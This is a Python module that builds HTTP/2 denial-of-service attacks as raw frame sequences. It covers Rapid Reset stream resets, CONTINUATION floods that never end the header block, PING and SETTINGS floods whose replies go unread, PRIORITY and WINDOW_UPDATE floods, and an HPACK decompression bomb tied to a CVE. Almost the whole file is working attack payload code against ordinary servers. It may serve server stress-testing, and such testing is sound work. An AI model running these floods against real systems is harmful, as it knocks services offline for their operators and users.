"""Attacks on HTTP/2: what each sends, as frames. Most of them consist of frames that are valid one by one."""

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
UNKNOWN = 0xBD
END_STREAM = ACK = 1
END_HEADERS = 4
INITIAL_WINDOW = 4
MAX_FRAME = 16_384
GET = b"\x82\x86\x84\x41\x01a"
"""RFC 7541: GET http://a/"""
STATIC_COOKIE = 32
NEWEST = 0xBE
"""RFC 7541 section 6.1: what was put into the dynamic table last."""

Chunks = Callable[[], Iterator[bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + payload


def request(stream: int, *, ends: bool = True) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if ends else 0), stream, GET)


def number(value: int) -> bytes:
    return struct.pack("!I", value)


@dataclass(frozen=True, slots=True)
class Attack:
    """`ends`: the connection has to be ended for it. One that does not `reads` lets answers pile up."""

    name: str
    what: str
    chunks: Chunks
    settings: bytes = b""
    reads: bool = True
    ends: bool = True


def _streams(count: int) -> range:
    return range(1, 2 * count, 2)


def _rapid_reset() -> Iterator[bytes]:
    for first in range(1, 40_000, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(request(one) + frame(RST_STREAM, 0, one, number(8)) for one in streams)


def _made_to_reset(*behind: Callable[[int], bytes], ends: bool = True) -> Chunks:
    """Requests that are fine, each with something behind it for which the other side has to reset it."""

    def chunks() -> Iterator[bytes]:
        for one in _streams(20_000):
            yield request(one, ends=ends) + b"".join(make(one) for make in behind)

    return chunks


def _continuations(size: int) -> Chunks:
    """A header block without an end."""

    def chunks() -> Iterator[bytes]:
        yield frame(HEADERS, END_STREAM, 1, GET)
        piece = (b"\x00\x01a\x01b" * (size // 5 + 1))[:size] if size >= 5 else b"\x90" * size
        for _ in range(200_000 * 5 // max(5, size) + 100):
            yield frame(CONTINUATION, 0, 1, piece)

    return chunks


def _empty_data() -> Iterator[bytes]:
    yield request(1, ends=False)
    for _ in range(10_000):
        yield frame(DATA, 0, 1)


def _empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, GET)
    for _ in range(10_000):
        yield frame(CONTINUATION, 0, 1)


def _many(one: bytes, count: int = 10_000_000) -> Chunks:
    def chunks() -> Iterator[bytes]:
        bundle = one * 1_000
        for _ in range(count // 1_000):
            yield bundle

    return chunks


def _window_updates() -> Iterator[bytes]:
    yield request(1, ends=False)
    yield from _many(frame(WINDOW_UPDATE, 0, 1, number(1)))()


def _priorities() -> Iterator[bytes]:
    yield request(1, ends=False)
    yield from _many(frame(PRIORITY, 0, 1, number(3) + b"\x10"))()


def _bomb() -> Iterator[bytes]:
    """One byte of the block is one more field for whoever decodes it (CVE-2026-47774)."""
    for one in _streams(2_000):
        block = GET + bytes((0x40 | STATIC_COOKIE, 0)) + bytes((NEWEST,)) * 16_000
        yield frame(HEADERS, END_HEADERS | END_STREAM, one, block)


def _held() -> Iterator[bytes]:
    """Responses that nobody takes."""
    yield b"".join(request(one) for one in _streams(100))


def _too_many() -> Iterator[bytes]:
    """More requests at a time than are allowed, none of which ever ends."""
    for first in range(1, 60_000, 200):
        yield b"".join(request(one, ends=False) for one in range(first, first + 200, 2))


NO_WINDOW = struct.pack("!HI", INITIAL_WINDOW, 0)
ATTACKS = (
    Attack("rapid-reset", "requests that are reset at once", _rapid_reset),
    Attack(
        "made-window-zero",
        "a window made larger by nothing",
        _made_to_reset(lambda n: frame(WINDOW_UPDATE, 0, n, number(0)), ends=False),
    ),
    Attack(
        "made-window-overflow",
        "a window made too large",
        _made_to_reset(lambda n: frame(WINDOW_UPDATE, 0, n, number((1 << 31) - 1)), ends=False),
    ),
    Attack("made-data-after-end", "data behind the end", _made_to_reset(lambda n: frame(DATA, 0, n, b"x"))),
    Attack("made-headers-after-end", "a head behind the end", _made_to_reset(request)),
    Attack(
        "made-self-dependency",
        "streams that depend on themselves",
        _made_to_reset(lambda n: frame(PRIORITY, 0, n, number(n) + b"\x10"), ends=False),
    ),
    Attack("continuation-small", "a head in small pieces without an end", _continuations(1)),
    Attack("continuation-large", "a head in large pieces without an end", _continuations(MAX_FRAME)),
    Attack("empty-data", "frames of data without data", _empty_data),
    Attack("empty-continuation", "pieces of a head with nothing in them", _empty_continuations),
    Attack("ping", "pings, and their answers are not read", _many(frame(PING, 0, 0, bytes(8))), reads=False),
    Attack("settings", "settings, and their answers are not read", _many(frame(SETTINGS, 0, 0)), reads=False),
    Attack("priority", "priorities", _priorities),
    Attack("window-update", "windows made larger by a byte", _window_updates),
    Attack("unknown", "frames of a kind that there is not", _many(frame(UNKNOWN, 0, 0, b"x"))),
    Attack("bomb", "heads that are small and unpack to much", _bomb, NO_WINDOW),
    Attack("held", "responses that are never taken", _held, NO_WINDOW, ends=False),
    Attack("too-many", "more requests at a time than are allowed", _too_many),
)
